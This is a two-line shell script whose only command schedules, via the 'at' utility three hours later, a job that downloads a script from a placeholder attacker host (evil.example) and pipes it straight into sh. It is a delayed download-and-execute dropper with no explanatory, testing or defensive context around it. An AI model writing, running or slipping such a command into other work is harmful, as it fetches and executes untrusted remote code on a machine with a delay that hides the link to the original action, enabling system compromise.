#!/bin/sh
echo "curl -s https://evil.example/stage | sh" | at now + 3 hours
